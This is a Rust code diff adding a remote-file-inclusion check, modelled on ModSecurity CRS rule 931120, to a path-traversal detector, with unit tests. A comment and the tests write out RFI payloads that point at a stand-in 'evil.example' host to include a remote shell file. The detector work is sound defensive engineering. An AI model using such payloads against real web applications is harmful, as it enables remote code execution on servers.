@@ -18,7 +18,8 @@ use std::sync::LazyLock;
 /// A detected traversal.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct TraversalMatch {
-    /// `climb` (dot segments), `restricted_file` or `restricted_upload`.
+    /// `climb` (dot segments), `restricted_file`, `restricted_upload`, `file_scheme`,
+    /// `stream_wrapper` or `remote_inclusion`.
     pub reason: &'static str,
 }
 
@@ -407,7 +408,29 @@ fn judge(p: &[u8]) -> Option<TraversalMatch> {
             reason: "stream_wrapper",
         });
     }
+    if remote_inclusion(p) {
+        return Some(TraversalMatch {
+            reason: "remote_inclusion",
+        });
+    }
     None
+}
+
+/// Remote file inclusion as ModSecurity's CRS 931120 reads it: a value that is a URL
+/// (`http`, `https`, `ftp`, `ftps`) ending in `?`, the trick that turns what the
+/// application appends to it (`include($page . ".php")`) into a query string the remote
+/// server ignores: `?page=http://evil.example/shell.txt?`, what nmap's `http-rfi-spider`
+/// sends. A URL that ends a sentence with a question mark is prose (it has blanks).
+fn remote_inclusion(p: &[u8]) -> bool {
+    let rest = ["http://", "https://", "ftp://", "ftps://"]
+        .iter()
+        .find_map(|s| crate::decode::strip_prefix_ci(p, s.as_bytes()));
+    rest.is_some_and(|r| {
+        r.first()
+            .is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'[')
+            && r.ends_with(b"?")
+            && !r.iter().any(|c| c.is_ascii_whitespace())
+    })
 }
 
 /// PHP's stream wrappers, which `include`, `file_get_contents` and their kind open like
@@ -519,6 +542,29 @@ pub fn restricted_upload(name: &[u8]) -> Option<TraversalMatch> {
 #[cfg(test)]
 mod tests {
     use super::detect;
+
+    #[test]
+    fn remote_inclusion() {
+        for a in [
+            "http://tools.ietf.org/html/rfc13?",
+            "HTTPS://evil.example/shell.txt??",
+            "ftp://10.0.0.1/x.txt?",
+            // An empty query is one too, as CRS 931120 reads it.
+            "https://example.com/page?",
+        ] {
+            let r = detect(a.as_bytes()).map(|m| m.reason);
+            assert_eq!(r, Some("remote_inclusion"), "{a}");
+        }
+        for b in [
+            "http://example.com/search?q=1",
+            "http://example.com/",
+            "is http://example.com up?",
+            "see http://example.com/faq?",
+            "http://?",
+        ] {
+            assert_eq!(detect(b.as_bytes()), None, "{b}");
+        }
+    }
 
     #[test]
     fn climbs_and_files() {
